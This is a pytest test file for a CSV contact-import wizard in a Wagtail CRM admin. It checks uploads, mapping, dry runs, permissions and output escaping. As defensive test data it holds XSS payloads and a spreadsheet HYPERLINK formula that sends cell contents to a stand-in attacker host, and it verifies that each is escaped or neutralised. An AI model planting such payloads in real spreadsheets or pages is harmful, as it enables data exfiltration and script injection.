"""The import wizard in the Wagtail admin, driven through the test client."""

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from crm_core.models import Contact, ImportJob, ImportMapping, ImportStatus, PossibleDuplicate
from crm_core.services.imports import create_job
from tests.conftest import grant
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

SAMPLE = Path(__file__).resolve().parent.parent / "example_site/sample_data/messy_contacts.csv"
IMPORTER_PERMS = (
    "wagtailadmin.access_admin",
    "crm_core.add_importjob",
    "crm_core.add_contact",
    "crm_core.change_contact",
)


@pytest.fixture
def importer(db):
    return grant(UserFactory(is_staff=True), *IMPORTER_PERMS)


@pytest.fixture
def outsider(db):
    return grant(UserFactory(is_staff=True), "wagtailadmin.access_admin", "crm_core.view_contact")


def upload(client, data, name="people.csv", kind="contacts", **extra):
    return client.post(
        reverse("crm_imports_upload"),
        {"file": SimpleUploadedFile(name, data), "kind": kind, **extra},
    )


def map_post(job, columns, *, name="sample", action="update_blanks"):
    data = {"mapping_name": name, "match_action": action}
    for index, header in enumerate(job.headers):
        data[f"column_{index}"] = columns.get(header, "")
    return data


def test_the_wizard_imports_the_messy_sample_end_to_end(client, importer):
    client.force_login(importer)
    assert client.get(reverse("crm_imports_upload")).status_code == 200
    response = upload(client, SAMPLE.read_bytes(), name="messy_contacts.csv")
    job = ImportJob.objects.get()
    assert response.url == reverse("crm_imports_map", args=[job.pk])

    page = client.get(response.url)
    assert page.status_code == 200
    html = page.content.decode()
    # Columns are guessed from their names.
    assert '<option value="email" selected>' in html

    columns = {h: page.context["form"].initial[f"column_{i}"] for i, h in enumerate(job.headers)}
    response = client.post(reverse("crm_imports_map", args=[job.pk]), map_post(job, columns))
    assert response.url == reverse("crm_imports_job", args=[job.pk])
    job.refresh_from_db()
    assert job.status == ImportStatus.DRY_RUN
    assert Contact.objects.count() == 0
    dry = client.get(response.url).content.decode()
    assert "Would be created: 9" in dry
    assert "looks like a spreadsheet formula" in dry

    response = client.post(reverse("crm_imports_run", args=[job.pk]))
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE
    summary = client.get(response.url).content.decode()
    assert "Created: 9" in summary
    assert "Possible duplicates queued: 1" in summary
    assert 'http-equiv="refresh"' not in summary
    assert Contact.objects.count() == 9
    assert PossibleDuplicate.objects.count() == 1

    errors = client.get(reverse("crm_imports_errors", args=[job.pk]))
    assert errors["Content-Type"].startswith("text/csv")
    text = errors.content.decode()
    assert "'=HYPERLINK" in text
    assert "not-an-email" in text
    assert ImportMapping.objects.get(name="sample").columns["E-mail"] == "email"


def test_a_saved_mapping_fills_in_the_columns_of_the_next_file(client, importer):
    mapping = ImportMapping.objects.create(
        name="crm-export", kind="contacts", columns={"Mail": "email", "Nom": "last_name"}
    )
    client.force_login(importer)
    upload(client, b"Mail,Nom\r\na@example.org,Lee\r\n", mapping=mapping.pk)
    job = ImportJob.objects.get()
    page = client.get(reverse("crm_imports_map", args=[job.pk]))
    assert page.context["form"].initial["column_0"] == "email"
    assert page.context["form"].initial["column_1"] == "last_name"
    assert page.context["form"].initial["mapping_name"] == "crm-export"


def test_the_running_page_refreshes_itself_without_script(client, importer):
    job = create_job(b"a,b\n1,2\n", name="x.csv", kind="contacts", actor=importer)
    ImportJob.objects.filter(pk=job.pk).update(status=ImportStatus.RUNNING, rows_done=0)
    client.force_login(importer)
    html = client.get(reverse("crm_imports_job", args=[job.pk])).content.decode()
    assert '<meta http-equiv="refresh" content="3">' in html
    assert '<progress id="import-progress" max="100" value="0">' in html


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"", "empty.csv", "file is empty."),
        (b"%PDF-1.4\x00\x00", "x.pdf", "This is not a spreadsheet"),
        (b"PK\x03\x04junk", "x.xlsx", "not a valid Excel .xlsx workbook"),
        (b"a,b\n" + b'"' + b"x" * (10 * 1024 * 1024) + b'"\n', "big.csv", "longer than"),
        (b"only,a,header\r\n", "h.csv", "no data rows"),
    ],
    ids=["empty", "pdf", "bad-xlsx", "10mb-line", "header-only"],
)
def test_bad_files_are_refused_with_a_clear_message(client, importer, data, name, message):
    client.force_login(importer)
    response = upload(client, data, name=name)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert ImportJob.objects.count() == 0


def test_a_huge_upload_is_refused_before_it_is_read(client, importer, monkeypatch):
    monkeypatch.setattr("crm_wagtail.backoffice.imports.MAX_FILE_BYTES", 10)
    client.force_login(importer)
    response = upload(client, b"a,b\n" + b"1,2\n" * 10)
    assert "larger than" in response.content.decode()
    assert ImportJob.objects.count() == 0


def test_mapping_errors_are_shown_not_saved(client, importer):
    client.force_login(importer)
    upload(client, b"first,mail\r\nAnn,a@example.org\r\n")
    job = ImportJob.objects.get()
    response = client.post(
        reverse("crm_imports_map", args=[job.pk]),
        map_post(job, {"first": "email", "mail": "email"}),
    )
    assert response.status_code == 200
    assert "are both mapped to" in response.content.decode()
    assert ImportMapping.objects.count() == 0


def test_html_in_cells_and_headers_is_escaped_on_every_page(client, importer):
    client.force_login(importer)
    data = b"<script>alert(1)</script>,mail\r\n<img src=x onerror=alert(2)>,bad\r\n"
    upload(client, data)
    job = ImportJob.objects.get()
    pages = [client.get(reverse("crm_imports_map", args=[job.pk]))]
    client.post(
        reverse("crm_imports_map", args=[job.pk]),
        map_post(job, {"mail": "email", job.headers[0]: "first_name"}),
    )
    pages.append(client.get(reverse("crm_imports_job", args=[job.pk])))
    pages.append(client.get(reverse("wagtailsnippets_crm_core_importjob:list")))
    for page in pages:
        html = page.content.decode()
        assert "<img src=x" not in html
        assert "<script>alert(1)" not in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in pages[1].content.decode()


def test_the_error_file_neutralises_formulas_in_the_header_row(client, importer):
    client.force_login(importer)
    data = b'email,"=HYPERLINK(""http://evil.example/?""&A2,""x"")"\nnot-an-email,Ann\n'
    upload(client, data)
    job = ImportJob.objects.get()
    client.post(
        reverse("crm_imports_map", args=[job.pk]),
        map_post(job, {"email": "email", job.headers[1]: "first_name"}),
    )
    body = client.get(reverse("crm_imports_errors", args=[job.pk]) + "?dry_run=1")
    header = next(csv.reader(io.StringIO(body.content.decode())))
    assert header[2] == "'" + job.headers[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)


def test_a_dry_run_that_stops_says_so_on_the_jobs_page(client, importer, monkeypatch):
    def stop(batch, context):
        raise RuntimeError("the database went away")

    monkeypatch.setattr("crm_core.services.imports._process_batch", stop)
    client.force_login(importer)
    upload(client, b"email\nann@example.org\n")
    job = ImportJob.objects.get()
    response = client.post(
        reverse("crm_imports_map", args=[job.pk]), map_post(job, {"email": "email"})
    )
    page = client.get(response.url).content.decode()
    assert "The dry run stopped: RuntimeError" in page
    job.refresh_from_db()
    assert (job.status, job.dry_run_counts) == (ImportStatus.UPLOADED, {})


def test_every_step_refuses_a_user_without_import_permission(client, outsider, importer):
    job = create_job(b"a,b\n1,2\n", name="x.csv", kind="contacts", actor=importer)
    ImportJob.objects.filter(pk=job.pk).update(status=ImportStatus.DRY_RUN)
    client.force_login(outsider)
    for method, url in [
        ("get", reverse("crm_imports_upload")),
        ("post", reverse("crm_imports_upload")),
        ("get", reverse("crm_imports_map", args=[job.pk])),
        ("post", reverse("crm_imports_map", args=[job.pk])),
        ("get", reverse("crm_imports_job", args=[job.pk])),
        ("post", reverse("crm_imports_run", args=[job.pk])),
        ("get", reverse("crm_imports_errors", args=[job.pk])),
    ]:
        response = getattr(client, method)(url)
        assert response.status_code in (302, 403), (method, url)
        assert response.status_code == 403 or "/login/" not in response.url
    listing = client.get(reverse("wagtailsnippets_crm_core_importjob:list"))
    assert listing.status_code in (302, 403)
    job.refresh_from_db()
    assert job.status == ImportStatus.DRY_RUN


def test_importing_contributions_needs_the_contribution_permission(client, importer):
    client.force_login(importer)
    response = upload(client, b"email,amount\r\na@example.org,5\r\n", kind="contributions")
    assert "You may not import this kind of record." in response.content.decode()
    assert ImportJob.objects.count() == 0


def test_an_unknown_job_is_a_404(client, importer):
    client.force_login(importer)
    assert client.get(reverse("crm_imports_job", args=[999999])).status_code == 404


def test_the_imports_listing_runs_a_constant_number_of_queries(
    client, importer, django_assert_num_queries
):
    client.force_login(importer)
    url = reverse("wagtailsnippets_crm_core_importjob:list")
    mapping = ImportMapping.objects.create(name="m", kind="contacts", columns={"a": "first_name"})
    create_job(b"a,b\n1,2\n", name="1.csv", kind="contacts", actor=importer, mapping=mapping)
    client.get(url)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as one:
        assert client.get(url).status_code == 200
    for n in range(5):
        other = UserFactory()
        create_job(b"a,b\n1,2\n", name=f"{n}.csv", kind="contacts", actor=other, mapping=mapping)
    with django_assert_num_queries(len(one.captured_queries)):
        assert client.get(url).status_code == 200
